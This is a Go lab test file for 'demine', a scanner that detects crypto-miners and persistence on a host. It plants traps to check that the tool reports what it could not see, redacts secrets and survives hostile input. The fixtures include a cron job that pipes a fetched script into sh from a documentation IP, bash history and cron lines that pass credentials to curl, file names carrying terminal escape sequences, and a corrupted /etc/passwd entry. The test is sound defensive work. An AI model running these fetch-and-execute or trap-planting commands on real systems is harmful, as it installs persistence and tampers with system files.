//go:build lab

package lab

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
	"unicode/utf8"

	"golang.org/x/sys/unix"
)

// TestBadInput: what cannot be read, what never ends and what is made to harm the reader or the terminal: clear words,
// coverage, the right exit status, within bounds of time and memory, and no crash. One host: first as it is, seen with
// less and less rights; then full of traps.
func TestBadInput(t *testing.T) {
	bin := product(t)
	h := boot(t, Config{Name: "badinput", Scenario: "quiet"})
	if err := h.CopyIn(t.Context(), bin, demine); err != nil {
		t.Fatal(err)
	}
	plantSecrets(t, h)
	t.Run("user", func(t *testing.T) { checkUser(t, h) })
	t.Run("hidepid", func(t *testing.T) { checkHidepid(t, h) })
	t.Run("proc", func(t *testing.T) { checkProc(t, h) })
	t.Run("descriptors", func(t *testing.T) { checkDescriptors(t, h) })
	t.Run("output", func(t *testing.T) { checkOutput(t, h) })
	t.Run("from", func(t *testing.T) { checkFrom(t, h) })
	plantTraps(t, h)
	t.Run("traps", func(t *testing.T) { checkTraps(t, h) })
	t.Run("interrupt", func(t *testing.T) { checkInterrupt(t, h) })
}

const (
	demine  = "/usr/local/bin/demine"
	secret  = "Zq7geheim"
	longest = 10 * time.Second // of a look as root, who goes ahead of the others on a busy machine
	hangs   = time.Minute      // what takes longer than this never ends
	most    = 64 << 10         // KiB of memory
)

// asNobody runs a program as an ordinary user.
var asNobody = []string{"setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "--inh-caps", "-all"}

// ask runs demine and checks what holds for every answer.
func ask(t *testing.T, h *Host, argv ...string) Result {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), hangs)
	defer cancel()
	r, err := h.Run(ctx, argv...)
	if err != nil {
		t.Fatal(err)
	}
	checkWords(t, fmt.Sprintf("%.200q", argv), r)
	return r
}

// checkWords: no crash, no secrets, nothing that commands a terminal.
func checkWords(t *testing.T, who string, r Result) {
	t.Helper()
	if !slices.Contains([]int{0, 1, 2, 3, 4, 130}, r.Exit) {
		t.Errorf("%s: exit %d", who, r.Exit)
	}
	for stream, text := range map[string]string{"stdout": r.Stdout, "stderr": r.Stderr} {
		for _, bad := range []string{"panic", "goroutine ", "runtime error", "runtime/", ".go:", "SIGSEGV", "nil pointer", secret} {
			if i := strings.Index(text, bad); i >= 0 {
				t.Errorf("%s: %s holds %q: %q", who, stream, bad, text[max(0, i-200):min(len(text), i+200)])
			}
		}
		if !utf8.ValidString(text) {
			t.Errorf("%s: %s is not valid UTF-8", who, stream)
		}
		if i := strings.IndexFunc(text, commands); i >= 0 {
			t.Errorf("%s: %s commands the terminal: %q", who, stream, text[max(0, i-40):min(len(text), i+40)])
		}
	}
}

// commands: C0 but the newline, DEL, C1, directions, what is invisible, what is no character.
func commands(r rune) bool {
	switch {
	case r == '\n':
		return false
	case r < 0x20, r >= 0x7f && r < 0xa0, r >= 0x200b && r <= 0x200f, r >= 0x2028 && r <= 0x202e, r >= 0x2060 && r <= 0x206f:
		return true
	}
	return r == 0x61c || r == 0xad || r == 0xfeff || r == utf8.RuneError || r >= 0xe0000
}

// measured is a scan with what it cost.
type measured struct {
	scan
	Took struct {
		WallMS  int64 `json:"wall_ms"`
		PeakKiB int64 `json:"peak_kib"`
	}
}

// askJSON is ask for a scan as JSON, with its facts.
func askJSON(t *testing.T, h *Host, argv ...string) (m measured, text string) {
	t.Helper()
	r := ask(t, h, append(argv, "scan", "--json", "--snapshot")...)
	if err := json.Unmarshal([]byte(r.Stdout), &m); err != nil {
		t.Fatalf("exit %d, %v: %.2000s%.2000s", r.Exit, err, r.Stdout, r.Stderr)
	}
	if m.Exit != r.Exit {
		t.Errorf("exit %d, JSON says %d", r.Exit, m.Exit)
	}
	if m.Took.PeakKiB == 0 || m.Took.PeakKiB > most {
		t.Errorf("%q took %d KiB of memory, more than %d", argv, m.Took.PeakKiB, most)
	}
	if took := time.Duration(m.Took.WallMS) * time.Millisecond; took > longest && !slices.Contains(argv, asNobody[0]) {
		t.Errorf("%.200q took %s", argv, took)
	}
	t.Logf("%s, exit %d, %d ms, %d KiB", m.Verdict, m.Exit, m.Took.WallMS, m.Took.PeakKiB)
	for _, c := range m.Coverage {
		if c.State == "partial" && len(c.Gaps) == 0 {
			t.Errorf("%s did not see all and does not say what", c.Observer)
		}
		for _, g := range c.Gaps {
			if g.Code == "" || g.Code == "panic" {
				t.Errorf("%s: a gap without a reason, or a crash: %+v", c.Observer, g)
			}
		}
	}
	return m, r.Stdout
}

// gap is what an observer says that it did not see of a thing.
func gap(s scan, observer, what string) string {
	for _, c := range s.Coverage {
		for _, g := range c.Gaps {
			if c.Observer == observer && g.What == what {
				return g.Code
			}
		}
	}
	return ""
}

func wantGap(t *testing.T, s scan, observer, what, code string) {
	t.Helper()
	if got := gap(s, observer, what); got != code {
		i := slices.IndexFunc(s.Coverage, func(c coverage) bool { return c.Observer == observer })
		t.Errorf("%s says %q of %s, want %q: %+v", observer, got, what, code, s.Coverage[max(0, i)])
	}
}

// wantIncomplete: not all was seen, so nothing found is not said.
func wantIncomplete(t *testing.T, h *Host, argv ...string) scan {
	t.Helper()
	s, _ := askJSON(t, h, argv...)
	if s.Verdict != "incomplete" || s.Exit != 4 {
		t.Errorf("%q: verdict %s, exit %d, want incomplete, 4", argv, s.Verdict, s.Exit)
	}
	r := ask(t, h, argv...)
	if r.Exit != 4 || !strings.Contains(r.Stdout, "INCOMPLETE") || strings.Contains(r.Stdout, "NOTHING FOUND") || !strings.Contains(r.Stdout, "demine doctor") {
		t.Errorf("%q: exit %d: %s", argv, r.Exit, r.Stdout)
	}
	return s.scan
}

// plantSecrets puts a secret wherever demine looks.
func plantSecrets(t *testing.T, h *Host) {
	t.Helper()
	inside(t, h, `
		cat > /etc/cron.d/backup <<-'E'
		7 3 * * * root curl -u deploy:`+secret+` -H 'Authorization: Bearer `+secret+`' https://u:`+secret+`@backup.example/x -o /dev/null
		8 3 * * * root mysqldump -uroot -p`+secret+` --all-databases > /dev/null
		E
		printf 'redis-cli -a `+secret+` FLUSHALL\nMYSQL_PWD=`+secret+` mysqldump --password=`+secret+` x\ncurl https://u:`+secret+`@x.example/a.sh | sh\n' >> /root/.bash_history
		sed -i 's|^games:[^:]*|games:$6$`+secret+`$`+secret+`|' /etc/shadow`)
	for _, argv := range [][]string{{"--password=" + secret}, {"--requirepass", secret}, {"-H", "X-Api-Token: " + secret}, {"--token", secret}, {"https://u:" + secret + "@x.example/"}} {
		background(t, h, "sleep 3600; :", argv...)
		background(t, h, "sleep 3600; : "+strings.Join(argv, " "))
	}
}

// background runs a script in the host with a bash that lives until stop is called, or the test ends.
func background(t *testing.T, h *Host, script string, args ...string) (stop func()) {
	t.Helper()
	ctx, cancel := context.WithCancel(t.Context())
	c := h.Command(ctx, false, append([]string{"bash", "-c", script, "bash"}, args...)...)
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	stop = sync.OnceFunc(func() {
		cancel() // nsenter is killed, and what it started with it
		_ = c.Wait()
	})
	t.Cleanup(stop)
	return stop
}

func checkUser(t *testing.T, h *Host) {
	s := wantIncomplete(t, h, append(asNobody, demine)...)
	for _, o := range []string{"account", "process", "firewall", "cron", "history", "key"} {
		i := slices.IndexFunc(s.Coverage, func(c coverage) bool { return c.Observer == o })
		if i < 0 || s.Coverage[i].State == "seen" || s.Coverage[i].State == "absent" || !slices.ContainsFunc(s.Coverage[i].Gaps, func(g struct{ Code, What, Detail string }) bool {
			return g.Code == "no-permission" && g.What != ""
		}) {
			t.Errorf("%s does not say what it may not read: %+v", o, s.Coverage)
		}
	}
	if r := ask(t, h, append(asNobody, demine)...); !strings.Contains(r.Stdout, "not run as root") {
		t.Errorf("what to do is not said: %s", r.Stdout)
	}
}

// elsewhere runs demine in a mount namespace of its own after a command.
func elsewhere(command string, argv ...string) []string {
	return append([]string{"unshare", "-m", "sh", "-euc", command + `; exec "$@"`, "sh"}, argv...)
}

func checkHidepid(t *testing.T, h *Host) {
	for n, what := range map[int]string{1: "/proc/1", 2: "/proc"} {
		mount := fmt.Sprintf("mount -t proc -o hidepid=%d proc /proc", n)
		s := wantIncomplete(t, h, elsewhere(mount, append(asNobody, demine)...)...)
		wantGap(t, s, "process", what, "no-permission")
	}
}

// checkProc: a /proc that is covered, whole or one process of it, is not one without processes.
func checkProc(t *testing.T, h *Host) {
	s := wantIncomplete(t, h, elsewhere("mount -t tmpfs none /proc", demine)...)
	for _, o := range []string{"process", "load", "redis"} {
		wantGap(t, s, o, "/proc", "unreadable")
	}
	if f := slices.IndexFunc(s.Coverage, func(c coverage) bool { return c.Observer == "firewall" }); f < 0 || s.Coverage[f].State != "partial" {
		t.Errorf("without /proc the packet filter is taken for whole: %+v", s.Coverage)
	}
	sale := inside(t, h, "systemctl show -P MainPID shop.service")
	for _, mount := range []string{"mount -t tmpfs none /proc/" + sale, "mount --bind /proc/1 /proc/" + sale, "mount --bind /var /proc/" + sale} {
		s, _ := askJSON(t, h, elsewhere(mount, demine)...)
		wantCovered(t, s.scan, mount)
		if g := gap(s.scan, "process", "/proc/"+sale) + gap(s.scan, "process", "/proc/"+sale+"/stat"); g != "" {
			t.Errorf("%s: root does not see through it: %s", mount, g)
		}
		// Nobody cannot see through it, but sees that it is there.
		s, _ = askJSON(t, h, elsewhere(mount, append(asNobody, demine)...)...)
		wantCovered(t, s.scan, mount)
		if gap(s.scan, "process", "/proc/"+sale)+gap(s.scan, "process", "/proc/"+sale+"/stat") != "unreadable" {
			t.Errorf("%s: %+v", mount, s.Coverage)
		}
	}
}

func wantCovered(t *testing.T, s scan, mount string) {
	t.Helper()
	var covered []string
	for _, f := range s.Findings {
		if strings.HasPrefix(f.Rule, "evasion/proc-covered") {
			covered = append(covered, f.Subject)
		}
	}
	if s.Verdict != "compromised" || len(covered) != 1 {
		t.Errorf("%s: verdict %s, covered: %q", mount, s.Verdict, covered)
	}
}

// checkDescriptors: with few open files allowed, what demine could not open is said; what it says is true.
func checkDescriptors(t *testing.T, h *Host) {
	all, _ := askJSON(t, h, demine)
	short := 0
	for n := 8; n <= 14; n += 2 { // with 6 the runtime itself gets no epoll descriptor
		s, _ := askJSON(t, h, "prlimit", fmt.Sprintf("--nofile=%d:%d", n, n), demine)
		switch {
		case s.Verdict == "incomplete" && s.Exit == 4:
			short++
		case s.Verdict == "nothing-found" && s.Exit == 0:
			differ(t, fmt.Sprintf("with %d descriptors, finding", n), findingSet(all.scan), findingSet(s.scan))
			differ(t, fmt.Sprintf("with %d descriptors, exposure", n), exposureSet(all.scan), exposureSet(s.scan))
		default:
			t.Errorf("with %d descriptors: verdict %s, exit %d", n, s.Verdict, s.Exit)
		}
	}
	if short == 0 {
		t.Error("there were always enough: this proves nothing")
	}
}

// checkOutput: what could not be said is no success.
func checkOutput(t *testing.T, h *Host) {
	for _, args := range []string{"", "scan --json", "doctor", "explain", "exposure --json"} {
		r := ask(t, h, "sh", "-c", demine+" "+args+" >/dev/full")
		if r.Exit != 1 || !strings.Contains(r.Stderr, "no space left on device") || strings.Count(r.Stderr, "\n") != 1 {
			t.Errorf("demine %s >/dev/full: exit %d: %s", args, r.Exit, r.Stderr)
		}
	}
	// With no stdout at all there is nobody to tell; the status still says what was found.
	if r := ask(t, h, "sh", "-c", demine+" >&-"); r.Exit != 0 && r.Exit != 1 {
		t.Errorf("without stdout: exit %d: %s", r.Exit, r.Stderr)
	}
	checkBrokenPipe(t, h)
}

// checkBrokenPipe: a reader that went away ends demine, by a message or by the signal as other programs of a pipe.
func checkBrokenPipe(t *testing.T, h *Host) {
	read, write, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	read.Close()
	defer write.Close()
	var errs bytes.Buffer
	c := h.Command(t.Context(), false, demine)
	c.Stdout, c.Stderr = write, &errs
	err = c.Run()
	var ended *exec.ExitError
	if !errors.As(err, &ended) {
		t.Fatalf("a closed pipe is a success: %v", err)
	}
	st := ended.Sys().(syscall.WaitStatus)
	if byPipe := st.Signaled() && st.Signal() == syscall.SIGPIPE || st.ExitStatus() == 128+int(syscall.SIGPIPE); !byPipe && st.ExitStatus() != 1 {
		t.Errorf("a closed pipe: %v: %s", err, &errs)
	}
	checkWords(t, "a closed pipe", Result{Stderr: errs.String()})
}

// checkFrom: a file that is no scan is named, with what is wrong, in a line.
func checkFrom(t *testing.T, h *Host) {
	inside(t, h, `mkdir /root/from; cd /root/from
		`+demine+` scan --json --snapshot > good || true
		: > empty; printf '\033[2J\377garbage' > garbage; printf '[1,2]' > list; printf 'null' > null
		printf '{"schema":99}' > newer; printf '{}' > none; printf '{"schema":1,"snapshot":{"schema":1,"process":7}}' > types
		head -c 100000 good > cut; truncate -s 10G huge; mkdir folder; ln -s loop loop
		n=$(printf 'name\033[2J\377'); printf x > "$n"`)
	for _, name := range []string{"missing", "empty", "garbage", "list", "null", "newer", "none", "types", "cut", "huge", "folder", "loop", "name\x1b[2J\xff"} {
		shown, _, _ := strings.Cut(name, "\x1b")
		for _, args := range [][]string{{"scan"}, {"explain", "--lang", "zh-CN"}} {
			r := ask(t, h, append(append([]string{demine}, args...), "--from", "/root/from/"+name)...)
			if r.Exit != 1 || r.Stdout != "" || !strings.Contains(r.Stderr, "/root/from/"+shown) || !strings.HasPrefix(r.Stderr, "demine") {
				t.Errorf("--from %q: exit %d: %s%s", name, r.Exit, r.Stdout, r.Stderr)
			}
		}
	}
	// Facts of any content: judged again, or refused, never a crash.
	for i, text := range []string{
		`{"schema":1}`, `{"schema":1,"snapshot":{}}`, `{"schema":1,"verdict":"mining","incidents":[{"findings":["x"]}],"coverage":[{"state":"?"}]}`,
		`{"schema":1,"snapshot":{"schema":1,"process":[{"ref":"","pid":-1,"ppid":-1},{"pid":-1}],"socket":[{"port":-5}],"autostart":[{"schedule":"99 99 99 99 99"}],"firewall":[{"chains":[{"rules":[{}]}]}],"log":[{}],"key":[{}],"file":[{}],"service":[{"settings":[{}]}]}}`,
	} {
		if err := h.put(t.Context(), strings.NewReader(text), "/root/from/odd", 0o600); err != nil {
			t.Fatal(err)
		}
		for _, command := range []string{"scan", "explain", "exposure", "doctor"} {
			if r := ask(t, h, demine, command, "--from", "/root/from/odd"); r.Exit == 0 && strings.Contains(r.Stdout, "NOTHING FOUND") {
				t.Errorf("odd %d: %s says that nothing was found: %s", i, command, r.Stdout)
			}
		}
	}
	if r := ask(t, h, demine, "--from", "/root/from/good"); r.Exit != 0 {
		t.Errorf("a good scan, judged again: exit %d: %s%s", r.Exit, r.Stdout, r.Stderr)
	}
}

const (
	evil    = "\x1b[31mevil\u202e\xff\u009b\nname" // ESC, right-to-left, no UTF-8, C1, newline
	fetches = "curl -fsS http://203.0.113.66/late | sh"
)

// evilNames are files of cron.d, and how JSON names them.
var evilNames = map[string]string{
	"esc\x1b[2J\x1b]0;owned\x07": "esc\x1b[2J\x1b]0;owned\x07", "new\nline\r": "new\nline\r",
	"bad\xff\xfe\x80utf": "bad%FF%FE%80utf", "bidi\u202egpj\u2066\u200b": "bidi\u202egpj\u2066\u200b", "c1\u009b31m%41": "c1\u009b31m%2541",
}

// plantTraps fills the host with what hurts a reader.
func plantTraps(t *testing.T, h *Host) {
	t.Helper()
	inside(t, h, `cd /var/spool/cron
		mkfifo fifo-user; truncate -s 10G sparse-user; mkdir man; mknod zero c 1 5
		ln -s loop-b loop-a; ln -s loop-a loop-b
		{ head -c 1000000 /dev/zero | tr '\0' a; printf '\n*/5 * * * * `+fetches+`\n'; } > games
		cd /etc/cron.d
		ln -s self self; ln -s /dev/zero device; mkdir folder; ln -s /nowhere dangling
		mkdir -p /usr/games/.ssh; truncate -s 10G /usr/games/.ssh/authorized_keys
		mkfifo /usr/games/.bash_history /var/log/secure
		mount -t tmpfs none /etc/cron.daily; cd /etc/cron.daily; seq 1 100000 | xargs touch`)
	noise := make([]byte, 200_000)
	r := rand.New(rand.NewPCG(1, 2))
	for i := range noise {
		noise[i] = byte(r.Uint32())
	}
	put := func(path string, text io.Reader) {
		if err := h.put(t.Context(), text, path, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	put("/var/spool/cron/daemon", bytes.NewReader(noise))
	for name := range evilNames {
		put("/etc/cron.d/"+name, strings.NewReader("* * * * * root "+fetches+"\n"))
	}
	if err := h.CopyIn(t.Context(), filepath.Join(h.Folder, "bin", "standin"), "/var/tmp/"+evil); err != nil {
		t.Fatal(err)
	}
	background(t, h, `exec "$1" -threads 1`, "/var/tmp/"+evil)
	background(t, h, `exec -a "$1" sleep 3600`, "\x1b[2J\xff\u202eargv\n\r0 --password="+secret)
	background(t, h, `exec "$@"`, "sh", "-c", "sleep 3600; : $1", "sh", strings.Repeat("\x1b]0;x\x07\xfe\u202e\n", 10_000))
	// The account comes last: what runs in the host from now on may ask for it.
	inside(t, h, `{ head -c 1000000 /dev/zero | tr '\0' x; printf ':x:1:1\0\0\0:\033[2J:/home/\377:/bin/sh\n\0\0\0\nevil\033[2J:x:1234:1234:\342\200\256:/home/\033[2J\377:/bin/bash\n'; } >> /etc/passwd`)
}

// checkTraps looks while processes start and end all the time.
func checkTraps(t *testing.T, h *Host) {
	stop := background(t, h, `for i in {1..400}; do for j in {1..100}; do (exit 0) & done; wait; done; exec sleep 3600`)
	started := func() int {
		n, _ := strconv.Atoi(inside(t, h, "sed -n 's/^processes //p' /proc/stat"))
		return n
	}
	before := started()
	s, text := askJSON(t, h, demine)
	if n := started() - before; n < 100 {
		t.Errorf("only %d processes started during the look: this proves nothing", n)
	}
	ask(t, h, demine)
	stop()
	for what, code := range map[string]string{
		"fifo-user": "not-regular", "sparse-user": "too-large", "zero": "not-regular", "loop-a": "unreadable", "loop-b": "unreadable",
	} {
		wantGap(t, s.scan, "cron", "/var/spool/cron/"+what, code)
	}
	wantGap(t, s.scan, "cron", "/etc/cron.d/self", "unreadable")
	wantGap(t, s.scan, "cron", "/etc/cron.d/device", "not-regular")
	wantGap(t, s.scan, "cron", "/etc/cron.daily", "too-many")
	wantGap(t, s.scan, "key", "/usr/games/.ssh/authorized_keys", "too-large")
	wantGap(t, s.scan, "history", "/usr/games/.bash_history", "not-regular")
	wantGap(t, s.scan, "log", "/var/log/secure", "not-regular")
	checkFound(t, s.scan)
	for _, want := range []string{`\u001b[31mevil\u202e%FF\u009b\nname`, `evil\u001b[2J`, `--password=***`, `curl -u deploy:***`} {
		if !strings.Contains(text, want) {
			t.Errorf("JSON does not hold %s", want)
		}
	}
	checkScreens(t, h, text)
}

// checkFound: none of the traps hides the miner, or the jobs that stand behind the long line and in the odd names.
func checkFound(t *testing.T, s scan) {
	t.Helper()
	if s.Verdict != "mining" || s.Exit != 3 || len(findings(s, "mining/miner-code")) != 1 {
		t.Errorf("verdict %s, exit %d, %+v", s.Verdict, s.Exit, findings(s, "mining/miner-code"))
	}
	want := []origin{{"/var/spool/cron/games", 2}}
	for _, name := range evilNames {
		want = append(want, origin{"/etc/cron.d/" + name, 1})
	}
	for _, o := range want {
		if !slices.ContainsFunc(findings(s, "persistence/cron-fetch-exec"), func(f finding) bool { return f.Origin == o }) {
			t.Errorf("the job at %q:%d is not found: %+v", o.Path, o.Line, findings(s, "persistence/cron-fetch-exec"))
		}
	}
}

// checkScreens: all that is shown of this host, in both languages and as an ordinary user.
func checkScreens(t *testing.T, h *Host, text string) {
	t.Helper()
	if err := h.put(t.Context(), strings.NewReader(text), "/root/traps.json", 0o600); err != nil {
		t.Fatal(err)
	}
	for _, command := range []string{"scan", "explain", "exposure", "doctor"} {
		for _, lang := range []string{"en", "zh-CN"} {
			ask(t, h, demine, command, "--lang", lang, "--from", "/root/traps.json")
		}
	}
	r := ask(t, h, demine)
	for _, want := range []string{`MINING CONFIRMED: /var/tmp/\x1b[31mevil\u{202e}%FF\u{9b}\x0aname`, "crontabs (in part: too large", "not a regular file", "too many"} {
		if r.Exit != 3 || !strings.Contains(strings.Join(strings.Fields(r.Stdout), " "), want) {
			t.Errorf("exit %d, the screen lacks %q: %s", r.Exit, want, r.Stdout)
		}
	}
	r = ask(t, h, demine, "doctor")
	for _, want := range []string{"/var/spool/cron/fifo-user", "/var/spool/cron/sparse-user", "/usr/games/.ssh/authorized_keys", "/var/log/secure", "What to do"} {
		if r.Exit != 4 || !strings.Contains(r.Stdout, want) {
			t.Errorf("doctor: exit %d, it lacks %q: %s", r.Exit, want, r.Stdout)
		}
	}
	if s, _ := askJSON(t, h, append(asNobody, demine)...); s.Exit != 3 && s.Exit != 4 {
		t.Errorf("as an ordinary user: verdict %s, exit %d", s.Verdict, s.Exit)
	}
}

// checkInterrupt presses Ctrl-C when the miner is confirmed and the rest is not yet seen. The Redis that does not
// answer keeps the look going for as long as that takes.
func checkInterrupt(t *testing.T, h *Host) {
	redis := inside(t, h, "systemctl show -P MainPID "+h.Facts.Redis.Service)
	inside(t, h, "kill -STOP "+redis)
	defer inside(t, h, "kill -CONT "+redis)
	if s, _ := askJSON(t, h, demine); s.Verdict != "mining" {
		t.Errorf("with a Redis that does not answer: %s", s.Verdict)
	}
	screen, line := terminal(t)
	var out bytes.Buffer
	c := h.Command(t.Context(), false, demine, "scan", "--json")
	c.Stdout, c.Stderr = &out, line
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	line.Close()
	shown := make(chan string)
	var said strings.Builder
	pressed := false
	go func() {
		defer close(shown)
		for buf := make([]byte, 4096); ; {
			n, err := screen.Read(buf)
			if n > 0 {
				shown <- string(buf[:n])
			}
			if err != nil {
				return // EIO when the last one with the terminal has ended
			}
		}
	}()
	for s := range shown {
		said.WriteString(s)
		if !pressed && strings.Contains(said.String(), "MINING CONFIRMED") {
			pressed = true
			if err := syscall.Kill(onlyChild(t, c.Process.Pid), syscall.SIGINT); err != nil {
				t.Error(err)
			}
		}
	}
	_ = c.Wait()
	checkWords(t, "interrupted", Result{Stdout: out.String(), Exit: c.ProcessState.ExitCode()})
	var s scan
	if err := json.Unmarshal(out.Bytes(), &s); err != nil {
		t.Fatalf("interrupted: %v: %s", err, &out)
	}
	if c.ProcessState.ExitCode() != 130 || s.Exit != 130 || s.Verdict != "mining" || !strings.Contains(said.String(), "Interrupted") {
		t.Errorf("exit %d, JSON says %d, verdict %s, stderr %q", c.ProcessState.ExitCode(), s.Exit, s.Verdict, said.String())
	}
	if !slices.ContainsFunc(s.Coverage, func(c coverage) bool {
		return slices.ContainsFunc(c.Gaps, func(g struct{ Code, What, Detail string }) bool { return g.Code == "timeout" })
	}) {
		t.Errorf("what was not looked at any more is not said: %+v", s.Coverage)
	}
}

// terminal gives both ends of a terminal of its own: what is shown, and the line that a program has.
func terminal(t *testing.T) (screen, line *os.File) {
	t.Helper()
	screen, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { screen.Close() })
	if err := unix.IoctlSetPointerInt(int(screen.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		t.Fatal(err)
	}
	n, err := unix.IoctlGetInt(int(screen.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Fatal(err)
	}
	line, err = os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	return screen, line
}

// onlyChild is the process that nsenter became in the host.
func onlyChild(t *testing.T, pid int) int {
	t.Helper()
	raw, err := os.ReadFile(fmt.Sprintf("/proc/%d/task/%d/children", pid, pid))
	if err != nil {
		t.Fatal(err)
	}
	child, err := strconv.Atoi(strings.TrimSpace(string(raw)))
	if err != nil {
		t.Fatalf("nsenter has the children %q", raw)
	}
	return child
}
